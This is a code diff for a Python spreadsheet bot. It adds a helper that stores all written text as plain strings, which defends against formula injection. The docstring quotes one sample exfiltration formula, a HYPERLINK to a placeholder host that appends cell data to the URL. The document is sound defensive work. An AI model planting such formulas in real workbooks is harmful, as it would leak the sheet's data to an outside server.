@@ -1,5 +1,5 @@
-"""Reading the cells of a workbook a person filled in: the master indicator sheet and the
-per-bidang format a Kabid sends back both come through here.
+"""The cells of a workbook, both ways: every cell the bot writes, and reading the ones a person
+filled in (the master indicator sheet and the per-bidang format a Kabid sends back).
 
 openpyxl gives a cell's value in whatever type the file chose (a number typed as text, a percent
 cell, a date Excel made of "1.5"); these helpers turn it into what the person meant or say, in
@@ -12,7 +12,9 @@ from datetime import date, datetime, time, timedelta
 from decimal import Decimal
 from typing import Final
 
+from openpyxl.cell.cell import Cell as SheetCell
 from openpyxl.cell.read_only import EmptyCell, ReadOnlyCell
+from openpyxl.worksheet.worksheet import Worksheet
 
 from bot.numbers import parse_number
 
@@ -24,6 +26,21 @@ EMPTY: Final[Cell] = (None, "")
 
 BLANK_MARKS: Final = frozenset({"", "-", "–", "—"})
 """Texts that mean "nothing here": offices often type a dash for a quarter without a target."""
+
+
+def write_cell(sheet: Worksheet, row: int, column: int, value: object) -> SheetCell:
+    """Puts `value` in a cell; every cell the bot writes goes through here.
+
+    A text is always stored as text, exactly as typed. openpyxl would store a keterangan or a
+    name starting with "=" as a live formula (and "#N/A" as an error), which Excel then runs:
+    `=HYPERLINK("http://x/?"&A1,"Klik")` would send the sheet's data to a stranger's server.
+    The bot never writes a formula of its own, so no text needs to be one.
+    """
+    cell = sheet.cell(row, column)
+    cell.value = value  # type: ignore[assignment]
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
 
 
 def read_cell(cell: ReadOnlyCell | EmptyCell) -> Cell:
